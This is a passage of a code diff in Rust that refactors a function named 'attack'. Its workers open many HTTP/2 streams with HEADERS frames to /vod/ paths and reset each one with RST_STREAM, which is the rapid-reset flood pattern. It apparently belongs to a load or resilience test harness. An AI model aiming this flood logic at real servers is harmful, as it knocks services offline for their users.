@@ -68,19 +68,17 @@ pub async fn attack(ctx: &Ctx) -> anyhow::Result<Outcome> {
     let total = (conns * per) as u64;
     let st = Arc::new(State::default());
     let stop = ctx.stop.child_token();
+    let plan = Plan {
+        per,
+        relay: ctx.relay,
+        origin: ctx.origin,
+        reset_after: ctx.args.reset_after,
+        deadline: ctx.deadline,
+    };
     let t0 = Instant::now();
     let mut tasks = JoinSet::new();
     for i in 0..conns {
-        tasks.spawn(worker(
-            i,
-            per,
-            ctx.relay,
-            ctx.origin,
-            ctx.args.reset_after,
-            st.clone(),
-            stop.clone(),
-            ctx.deadline,
-        ));
+        tasks.spawn(worker(i, plan, st.clone(), stop.clone()));
     }
     loop {
         tokio::select! {
@@ -252,16 +250,26 @@ async fn reader(
     seen.pong.notify_one();
 }
 
-async fn worker(
-    i: usize,
+/// What every worker does.
+#[derive(Clone, Copy)]
+struct Plan {
+    /// Streams per worker.
     per: usize,
     relay: SocketAddr,
     origin: SocketAddr,
+    /// Pause between a batch's HEADERS and its resets.
     reset_after: Duration,
-    st: Arc<State>,
-    stop: CancellationToken,
     deadline: Instant,
-) {
+}
+
+async fn worker(i: usize, plan: Plan, st: Arc<State>, stop: CancellationToken) {
+    let Plan {
+        per,
+        relay,
+        origin,
+        reset_after,
+        deadline,
+    } = plan;
     let fail = |what: String| *st.failures.lock().entry(what).or_default() += 1;
     let authority = origin.to_string();
     let mut sent = 0usize;
@@ -304,9 +312,16 @@ async fn worker(
             let mut resets = Vec::new();
             for k in 0..n {
                 let j = sent + written + k;
-                let block = get_block(&format!("/vod/{}?rr={i}-{j}", (i * per + j) % 100), &authority);
+                let block = get_block(
+                    &format!("/vod/{}?rr={i}-{j}", (i * per + j) % 100),
+                    &authority,
+                );
                 frame(&mut out, HEADERS, END_STREAM | END_HEADERS, id, &block);
-                let rst = if reset_after.is_zero() { &mut out } else { &mut resets };
+                let rst = if reset_after.is_zero() {
+                    &mut out
+                } else {
+                    &mut resets
+                };
                 frame(rst, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
                 id += 2;
             }
